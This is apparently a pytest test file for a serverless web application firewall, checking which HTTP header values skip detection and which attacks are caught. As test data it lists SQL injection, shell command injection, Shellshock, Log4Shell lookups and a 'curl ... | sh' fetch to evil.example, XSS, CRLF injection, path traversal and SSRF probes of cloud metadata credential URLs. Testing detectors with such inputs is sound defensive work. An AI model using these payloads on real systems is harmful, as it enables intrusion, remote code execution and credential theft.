"""Standard headers in their standard shape skip the detectors; anything else in them is inspected."""

from __future__ import annotations

import pytest
from fw_helpers import _module, _rule, views_scanned
from hypothesis import given, settings
from hypothesis import strategies as st

from hullguard.firewall import Firewall, gate, header_shapes
from hullguard.firewall.detectors.base import Detection, ScanContext
from hullguard.firewall.header_shapes import MAX_VALUE, fitting, shape


def fits(location: str, value: str) -> bool:
    """``value`` of the header at ``location`` fits a shape that rules every family out."""
    found = fitting(location, value)
    return found is not None and found.rules_out is None


# Values real browsers, SDKs and CloudFront send.
REAL_VALUES = [
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("accept", "application/json, text/plain, */*"),
    ("accept", "application/vnd.github.v3+json"),
    ("content-type", "application/json; charset=utf-8"),
    ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
    ("accept-language", "en-US,en;q=0.9,de;q=0.8"),
    ("accept-language", "zh-Hant-TW, zh;q=0.7, *;q=0.1"),
    ("accept-encoding", "gzip, deflate, br, zstd"),
    ("accept-encoding", "identity;q=1, *;q=0"),
    ("via", "2.0 a1b2c3d4e5f6.cloudfront.net (CloudFront)"),
    ("via", "1.1 varnish, 1.1 proxy.example.net"),
    ("x-amzn-trace-id", "Root=1-65a1b2c3-4d5e6f708192a3b4c5d6e7f8;Parent=53995c3f42cd8ad8;Sampled=1"),
    ("x-amz-cf-id", "Zt5pX3c2hJq9wJ0a1b2c3d4e5f6g7h8i9j0kLmNoPqRsTuVwXyZ=="),
    ("cloudfront-viewer-country", "DE"),
    ("cloudfront-is-mobile-viewer", "false"),
    ("x-forwarded-proto", "https"),
    ("x-forwarded-port", "443"),
    # Chromium's client hints and fetch metadata, on every request of a Chromium browser.
    ("sec-ch-ua", '" Not A;Brand";v="99", "Chromium";v="102", "Google Chrome";v="102"'),
    ("sec-ch-ua", '"Microsoft Edge";v="131", "Chromium";v="131", "Not_A Brand";v="24"'),
    ("sec-ch-ua", '"Chromium";v="116", "Not)A;Brand";v="24", "Google Chrome";v="116"'),
    ("sec-ch-ua", '"Opera";v="106", "Not.A/Brand";v="8", "Chromium";v="120"'),
    ("sec-ch-ua-full-version-list", '"Not_A Brand";v="8.0.0.0", "Chromium";v="120.0.6099.130"'),
    ("sec-ch-ua-mobile", "?0"),
    ("sec-ch-ua-platform", '"macOS"'),
    ("sec-ch-ua-platform", '"Chrome OS"'),
    ("sec-ch-ua-platform-version", '"15.0.0"'),
    ("sec-fetch-mode", "navigate"),
    ("sec-fetch-site", "same-origin"),
    ("sec-fetch-user", "?1"),
    ("sec-fetch-dest", "document"),
    ("upgrade-insecure-requests", "1"),
    ("cache-control", "max-age=0"),
    ("cache-control", "no-cache, no-store"),
    ("pragma", "no-cache"),
    ("priority", "u=0, i"),
    ("connection", "keep-alive"),
    ("x-amzn-tls-version", "TLSv1.3"),
    ("x-amzn-tls-cipher-suite", "ECDHE-RSA-AES128-GCM-SHA256"),
    ("x-amzn-tls-cipher-suite", "TLS_AES_128_GCM_SHA256"),
]

# Values whose shape rules some families out, not all (``Shape.rules_out``).
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)
PARTLY_SHAPED = [
    ("user-agent", CHROME),
    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
    ("user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.1.2 Mobile/15E148 Safari/604.1"),
    ("user-agent", "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)"),
    ("user-agent", "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#5.10.0 md/arch#x86_64 lang/python#3.11.7"),
    ("user-agent", "python-requests/2.31.0"),
    ("user-agent", "Amazon CloudFront"),
    ("host", "abc123def4.execute-api.eu-west-1.amazonaws.com"),
    ("host", "localhost:3000"),
    ("origin", "https://shop.example.com"),
    ("origin", "null"),
    ("referer", "https://shop.example.com/checkout?step=2"),
    ("referer", "https://www.example.org/docs/v2/index.html#install"),
]


@pytest.mark.parametrize(("name", "value"), PARTLY_SHAPED)
def test_real_values_fit_a_shape_that_rules_some_families_out(name: str, value: str) -> None:
    shape = fitting(f"headers.{name}", value)
    assert shape is not None and shape.rules_out is not None
    assert not fits(f"headers.{name}", value)  # ``fits``: every family ruled out
    assert "ssrf" not in shape.rules_out and "deser" not in shape.rules_out


def test_a_client_address_list_leaves_only_ssrf() -> None:
    shape = fitting("headers.x-forwarded-for", "203.0.113.10, 2001:db8::1, 130.176.0.1")
    assert shape is not None and shape.rules_out is not None
    assert "ssrf" not in shape.rules_out and {"sqli", "cmdi", "deser"} <= shape.rules_out
    assert fitting("headers.x-forwarded-for", "10.0.0.1, evil.example") is None


def test_a_browser_this_list_lacks_is_inspected_not_skipped() -> None:
    assert fitting("headers.sec-ch-ua", '"Some New Browser";v="1"') is None
    assert fitting("headers.sec-ch-ua-platform", '"Plan 9"') is None


@pytest.mark.parametrize(("name", "value"), REAL_VALUES)
def test_real_values_fit_their_header(name: str, value: str) -> None:
    assert fits(f"headers.{name}", value)


# Attacks placed in the same headers: none fits, so each reaches the detectors.
ATTACKS = [
    ("accept", "text/html; x=$(id)", "cmdi"),
    ("accept", "../../../../etc/passwd", "path"),
    ("content-type", "application/x-www-form-urlencoded; charset=' OR '1'='1", "sqli"),
    ("accept-language", "en-US,en;q=0.9; cat /etc/passwd", "cmdi"),
    ("accept-language", "en' UNION SELECT password FROM users--", "sqli"),
    ("accept-encoding", "gzip, ${jndi:ldap://evil.example/a}", "code"),
    ("via", "1.1 <script>alert(1)</script>", "xss"),
    ("x-amzn-trace-id", "Root=1-65a1b2c3;Self=`id`", "cmdi"),
    ("x-forwarded-proto", "https\r\nSet-Cookie: session=attacker", "crlf"),
    ("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "cmdi"),
    ("user-agent", "${jndi:ldap://evil.example/a}", "code"),
    ("user-agent", "Mozilla/5.0' OR '1'='1", "sqli"),
    ("user-agent", "Mozilla/5.0 (X11; Linux) <script>alert(1)</script>", "xss"),
    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) ; cat /etc/passwd", "cmdi"),
    ("user-agent", "Mozilla/5.0 `id`", "cmdi"),
    ("host", "x' or '1'='1", "sqli"),
    ("referer", "https://shop.example.com/?q=<script>alert(1)</script>", "xss"),
    ("referer", "https://shop.example.com/?a=1&b=$(id)", "cmdi"),
    ("referer", "https://shop.example.com/%2e%2e/%2e%2e/etc/passwd", "path"),
    ("sec-ch-ua", '"x" or 1=1 or "";v="1"', "sqli"),
    ("sec-ch-ua", '"Chromium";v="1"; curl http://evil.example/x | sh', "cmdi"),
    ("sec-ch-ua-platform", '"Linux"; cat /etc/passwd', "cmdi"),
    ("sec-fetch-dest", "<script>alert(1)</script>", "xss"),
    ("cache-control", "max-age=0' UNION SELECT password FROM users--", "sqli"),
    ("x-amzn-tls-cipher-suite", "ECDHE-RSA;id", "cmdi"),
    ("x-forwarded-for", "1.2.3.4' OR '1'='1", "sqli"),
]


@pytest.mark.parametrize(("name", "value", "attack"), ATTACKS)
def test_attacks_in_standard_headers_do_not_fit_and_are_found(name: str, value: str, attack: str) -> None:
    assert fitting(f"headers.{name}", value) is None
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "headers": {name: value},
             "requestContext": {"requestId": "r"}}
    assert attack in {f.attack for f in Firewall().inspect(event).findings}


def test_only_known_headers_whole_values_and_short_ones_fit() -> None:
    assert not fits("headers.x-forwarded-note", "note")  # no grammar: always inspected
    assert not fits("queryStringParameters.accept", "text/html")  # a parameter, not the header
    assert not fits("headers.accept", "text/html x")  # a whole value or nothing
    assert not fits("headers.accept", "a/" + "b" * MAX_VALUE)
    assert not fits("headers.accept", "text/html..x/y")  # "..": never part of a token


def test_a_fitting_opaque_id_is_no_view_and_not_decoded_but_one_out_of_shape_is() -> None:
    # "eCcgdW5pb24gc2VsZWN0IDEtLQ==" fits X-Amz-Cf-Id's grammar (an id CloudFront writes, a shape that rules
    # every family out) and is base64 for "x' union select 1--": no function decodes that header, and
    # decoding each request's new id as a base64 guess was the largest single cost of a warm function's
    # request. Standard base64 ("+", "/") is out of the grammar: decoded and inspected as before.
    def event(cf_id: str) -> dict[str, object]:
        return {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
                "headers": {"Accept": "application/json", "X-Amz-Cf-Id": cf_id}}

    views = views_scanned(Firewall(), event("eCcgdW5pb24gc2VsZWN0IDEtLQ=="))
    assert ("headers.accept", "application/json") not in views
    assert ("headers.x-amz-cf-id", "eCcgdW5pb24gc2VsZWN0IDEtLQ==") not in views
    assert ("headers.x-amz-cf-id", "x' union select 1--") not in views
    out_of_shape = "MScgb3IgJzEnPScxJyAtLSA+Pw=="  # "1' or '1'='1' -- >?"
    views = views_scanned(Firewall(), event(out_of_shape))
    assert ("headers.x-amz-cf-id", "1' or '1'='1' -- >?") in views
    assert "sqli" in {f.attack for f in Firewall().inspect(event(out_of_shape)).findings}


def test_a_fitting_header_that_leaves_families_still_has_its_base64_decoding_inspected() -> None:
    # A User-Agent of one product token fits its grammar, which leaves some families to look: a value
    # that looks like base64 is still decoded ("eCcgdW5pb24gc2VsZWN0IDEsMi0t" is "x' union select 1,2--").
    encoded = "eCcgdW5pb24gc2VsZWN0IDEsMi0t"
    assert header_shapes.fitting("headers.user-agent", encoded) is not None
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"User-Agent": encoded}}
    assert ("headers.user-agent", "x' union select 1,2--") in views_scanned(Firewall(), event)
    assert "sqli" in {f.attack for f in Firewall().inspect(event).findings}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        # SSRF is not ruled out by a host's shape: these fit and are still found.
        ("host", "169.254.169.254"),
        ("referer", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("origin", "http://metadata.google.internal"),
        ("x-forwarded-for", "169.254.169.254"),
    ],
)
def test_a_family_the_shape_does_not_rule_out_still_looks_at_a_fitting_value(name: str, value: str) -> None:
    assert fitting(f"headers.{name}", value) is not None
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "headers": {name: value},
             "requestContext": {"requestId": "r"}}
    assert "ssrf" in {f.attack for f in Firewall().inspect(event).findings}


def test_a_user_agent_in_shape_is_no_view_and_its_words_reach_no_detector() -> None:
    # ";" and "(" inside a comment that follows "Name/1.0": a shell stops at "word (" before running
    # anything, and "1.0 (x)" calls a number, so no command or code injection can be spelled this way.
    value = "Mozilla/5.0 (X11; reboot)"
    assert fitting("headers.user-agent", value) is not None
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"User-Agent": value, "Referer": "https://shop.example.com/"}}
    views = views_scanned(Firewall(), event)
    assert ("headers.user-agent", value) not in views
    # SSRF's prefilter matches the Referer, but the SSRF detector, asked directly, finds nothing in a
    # public host with a plain path, and no other family's prefilter matches it: no view either.
    assert ("headers.referer", "https://shop.example.com/") not in views
    assert not Firewall().inspect(event).findings


def test_a_user_agent_without_a_version_before_its_comment_does_not_fit() -> None:
    assert fitting("headers.user-agent", "eval (x)") is None
    assert fitting("headers.user-agent", "x/y (a; b)") is None  # a comment only after a numeric version
    assert fitting("headers.user-agent", "x/1 (a=1)") is None
    assert fitting("headers.user-agent", "x/1.0 (javascript:alert)") is None  # ":" only before a digit
    assert fitting("headers.user-agent", "x/1 (a/etc/passwd)") is None  # "/" only in Name/1.0


def test_only_the_families_a_shape_does_not_rule_out_are_asked_about_a_fitting_view() -> None:
    asked: list[tuple[str, str]] = []

    def recorder(family: str) -> object:
        def scan(text: str, ctx: ScanContext) -> Detection | None:
            asked.append((family, ctx.location))
            return None

        return scan

    # Both prefilters match the Referer; its shape rules XSS out, not SSRF.
    detectors = [_module(family, "https", _rule(family), recorder(family)) for family in ("xss", "ssrf")]
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"Referer": "https://shop.example.com/checkout?step=2", "X-Note": "https"}}
    Firewall(detectors=detectors).inspect(event)
    assert sorted(asked) == [("ssrf", "headers.referer"), ("ssrf", "headers.x-note"), ("xss", "headers.x-note")]


@pytest.mark.parametrize(
    ("referer", "expected", "viewed"),
    [
        ("https://shop.example.com/checkout?step=2", [], False),
        ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", [("ssrf", "HG-SSRF-001")], True),
        ("https://shop.example.com/latest/meta-data", [("ssrf", "HG-SSRF-006")], True),
        ("https://evil.example.com/etc/passwd", [("path", "HG-PATH-002")], True),
        # a developer's page (loopback is not reported in a Referer), and no other family's prefilter
        # matches ("lo" starts no base64 of a path: see the path PREFILTER)
        ("http://localhost:3000/", [], False),
        # "Li" may start base64 of "../": the path detector has a look ("LiveSearch" decodes to binary)
        ("https://shop.example.com/LiveSearch", [], True),
    ],
)
def test_a_fitting_referer_is_judged_by_the_ssrf_detector_then_the_gate(
    referer: str, expected: list[tuple[str, str]], viewed: bool
) -> None:
    """A Referer in its shape: the SSRF detector decides that family at once; a value it finds nothing in
    is a view only where the prefilter of another family its shape leaves matches."""
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"Referer": referer}}
    findings = Firewall().inspect(event).findings
    assert [(f.attack, f.rule_id) for f in findings] == expected
    assert all(f.location == "headers.referer" for f in findings)
    assert (("headers.referer", referer) in views_scanned(Firewall(), event)) == viewed


def test_the_ssrf_answer_for_a_referer_is_remembered_for_the_scan_and_the_next_event() -> None:
    """The SSRF detector's answer about a fitting Referer goes into the detector memo under the
    scanner's key: a Referer it flags is scanned without asking again, and in events with findings
    (whose header values are not remembered as clean) it is not asked again either."""
    asked: list[str] = []

    def ssrf_scan(text: str, ctx: ScanContext) -> Detection | None:
        asked.append(text)
        return Detection("HG-SSRF-001", "probe", 0, 5) if "internal" in text else None

    firewall = Firewall(detectors=[_module("ssrf", "https|internal", _rule("ssrf"), ssrf_scan)])
    for referer in ("https://shop.example.com/", "https://internal.example.com/"):
        event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
                 "headers": {"Referer": referer, "X-Note": "internal"}}  # X-Note: a finding in every event
        for _ in range(2):
            flagged = {f.location for f in firewall.inspect(event).findings}
            assert flagged == ({"headers.referer", "headers.x-note"} if "internal" in referer else {"headers.x-note"})
        assert asked.count(referer) == 1, referer


_SHAPED_NAMES = sorted({name for name, _ in REAL_VALUES + PARTLY_SHAPED})


@pytest.mark.parametrize(
    ("name", "value"), REAL_VALUES + PARTLY_SHAPED + [(name, value) for name, value, _ in ATTACKS]
)
def test_re2_matches_over_many_values_agree_with_each_grammar(name: str, value: str) -> None:
    header = shape(name)
    assert header is not None
    fits_alone = header.pattern.fullmatch(value) is not None
    assert header_shapes.fits([(header, value)]) == [fits_alone]  # up to three short values: Python's grammars
    assert header_shapes.fits([(header, value)] * 4) == [fits_alone] * 4  # more: the RE2 match
    others = [(shape(other), text) for other, text in REAL_VALUES]
    around = [True] * len(others)
    assert header_shapes.fits([*others, (header, value), *others]) == [*around, fits_alone, *around]  # type: ignore[list-item]


def test_a_value_that_does_not_fit_ends_one_match_and_the_next_starts_after_it() -> None:
    accept, host, agent = shape("accept"), shape("host"), shape("user-agent")
    assert accept is not None and host is not None and agent is not None
    values = [(accept, "text/html"), (host, "<url-id>.lambda-url.us-east-1.on.aws"), (agent, CHROME),
              (accept, "*/*"), (host, "a b"), (host, "c d"), (accept, "application/json")]
    assert header_shapes.fits(values) == [True, False, True, True, False, False, True]


def test_separators_inside_a_value_cannot_make_it_read_as_several_fitting_ones() -> None:
    # Joined as "accept NUL text/html SOH accept NUL text/html SOH", this one value would read as two
    # fitting Accept values; it fits no grammar.
    accept = shape("accept")
    assert accept is not None
    for value in ("text/html\x01accept\x00text/html", "text/html\x01", "\x00text/html"):
        assert header_shapes.fits([(accept, value)]) == [False]
        assert header_shapes.fits([(accept, "text/html"), (accept, value)]) == [True, False]


def test_a_value_smuggling_a_fitting_header_after_separators_is_still_inspected() -> None:
    # Read as "Accept: text/html" and "Referer: <metadata URL>", both fitting, the URL would have been
    # judged as part of an Accept value, which carries nothing: neither SSRF nor the path was reported.
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"Accept": "text/html\x01referer\x00http://169.254.169.254/latest/meta-data/iam/"}}
    assert {f.attack for f in Firewall().inspect(event).findings} >= {"ssrf"}


_ALPHABET = "aZk09 ;,=/.()-_+:*#q\t\v$'<"  # grammar characters and some that no grammar has


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(REAL_VALUES + PARTLY_SHAPED)  # most fit
        | st.tuples(st.sampled_from(_SHAPED_NAMES), st.text(alphabet=_ALPHABET, max_size=40))
        | st.tuples(st.sampled_from(_SHAPED_NAMES), st.text(alphabet=_ALPHABET + "\x00\x01é", max_size=40)),
        min_size=1,
        max_size=8,
    )
)
def test_the_re2_matches_answer_as_each_grammar_does(pairs: list[tuple[str, str]]) -> None:
    shaped = [(shape(name), value) for name, value in pairs]
    expected = [header.pattern.fullmatch(value) is not None for header, value in shaped]  # type: ignore[union-attr]
    assert header_shapes.fits(shaped) == expected  # type: ignore[arg-type]


def test_without_re2_each_value_is_matched_alone_with_the_same_views(monkeypatch: pytest.MonkeyPatch) -> None:
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"Accept": "application/json", "User-Agent": CHROME, "Via": "1.1 <script>x</script>",
                         "Referer": "https://shop.example.com/"}}
    with_re2 = views_scanned(Firewall(), event)
    monkeypatch.setattr(header_shapes, "_BATCH", [None])
    assert views_scanned(Firewall(), event) == with_re2
    assert {where for where, _ in with_re2} == {"path", "headers.via"}


def test_without_the_gate_the_kept_families_prefilters_decide_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"User-Agent": CHROME, "Host": "169.254.169.254", "Referer": "https://shop.example.com/",
                         "Accept": "text/html", "Via": "1.1 proxy.example.net"}}
    with_gate = views_scanned(Firewall(), event)
    monkeypatch.setattr(gate, "_re2_set", lambda patterns, max_mem=0: None)  # as without google-re2
    plain = Firewall()
    assert plain._gate is None
    assert views_scanned(plain, event) == with_gate
    assert ("headers.user-agent", CHROME) not in with_gate
    assert ("headers.host", "169.254.169.254") in with_gate  # SSRF's prefilter matches it
    assert [(f.attack, f.location) for f in plain.inspect(event).findings] == [("ssrf", "headers.host")]


def test_an_alb_multi_value_header_map_is_judged_by_the_same_shapes() -> None:
    # An ALB with multi-value headers on sends no "headers" map: its one-value lists are a flat map.
    event = {"requestContext": {"elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:eu-west-1:1:targetgroup/t/1"}},
             "httpMethod": "GET", "path": "/", "body": "", "isBase64Encoded": False,
             "multiValueHeaders": {"Accept": ["text/html"], "User-Agent": [CHROME], "X-Note": ["a", "b"],
                                   "X-Forwarded-For": ["169.254.169.254"]}}
    views = views_scanned(Firewall(), event)
    assert ("multiValueHeaders.accept", "text/html") not in views
    assert ("multiValueHeaders.user-agent", CHROME) not in views
    assert ("multiValueHeaders.x-forwarded-for", "169.254.169.254") in views
    findings = Firewall().inspect(event).findings
    assert [(f.attack, f.location) for f in findings] == [("ssrf", "multiValueHeaders.x-forwarded-for")]


def test_public_client_addresses_and_proxy_lists_are_no_view_but_a_lone_internal_or_metadata_one_is() -> None:
    def event(addresses: str) -> dict[str, object]:
        return {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
                "headers": {"X-Forwarded-For": addresses}}

    # SSRF reads a list of addresses only for a metadata address literal; one address as a bare host
    for decided in ("72.12.164.125, 130.176.0.1", "10.0.0.7, 130.176.0.1", "203.0.113.10, 10.0.4.2, 130.176.0.1"):
        assert ("headers.x-forwarded-for", decided) not in views_scanned(Firewall(), event(decided))
    for kept in ("10.0.0.7", "2001:db8::1", "169.254.169.254", "10.0.0.7, 169.254.169.254"):
        assert ("headers.x-forwarded-for", kept) in views_scanned(Firewall(), event(kept))
    assert [f.attack for f in Firewall().inspect(event("1.2.3.4, 169.254.169.254")).findings] == ["ssrf"]
    assert [f.attack for f in Firewall(policy={"paranoia": 2}).inspect(event("10.0.0.7")).findings] == ["ssrf"]


@pytest.mark.parametrize(
    ("origin", "viewed"),
    [("https://aws.amazon.com", False), ("null", False), ("http://localhost:2773", True),
     ("https://10.0.0.1:8443", True), ("http://127.0.0.1.nip.io", True), ("https://https:80", True)],
)
def test_an_origin_of_a_public_host_is_no_view(origin: str, viewed: bool) -> None:
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"Origin": origin}}
    assert (("headers.origin", origin) in views_scanned(Firewall(), event)) is viewed

